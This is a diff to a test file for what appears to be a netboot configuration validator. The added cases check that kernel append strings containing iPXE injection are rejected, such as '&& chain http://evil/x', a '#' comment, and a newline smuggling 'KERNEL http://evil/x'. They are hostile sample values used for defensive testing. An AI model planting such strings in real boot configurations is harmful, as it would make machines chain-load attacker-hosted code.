@@ -177,6 +177,14 @@ CASES = [
     Case("escape in overlay path", lambda s: s.edit(s.recipe, '"../overlays/gameserver"',
                                                     '"../overlays/game\\u001bserver"'),
          BUILD, 2, rf"{RCP}: overlay\[0\]\.source: an escape \(U\+001B\) at character 17; .*"),
+    Case("iPXE operator in append", lambda s: s.edit(
+        s.recipe, 'append = "base norestore', 'append = "base && chain http://evil/x norestore'),
+         PUBLISH, 2, rf"{RCP}: boot\.append: '&&' would chain a command of its own in an iPXE "
+         r"script"),
+    Case("iPXE comment in group append", lambda s: s.edit(
+        s.inventory, 'append = "base norestore', 'append = "base #norestore'),
+         PUBLISH, 2, rf"{INV}: group\.canary\.append: '#norestore' would start a comment in an "
+         r"iPXE script \(the rest is lost\)"),
     Case("newline in group append", lambda s: s.edit(
         s.inventory, 'append = "base norestore', 'append = "base\\nLABEL evil\\n KERNEL '
         'http://evil/x norestore'),
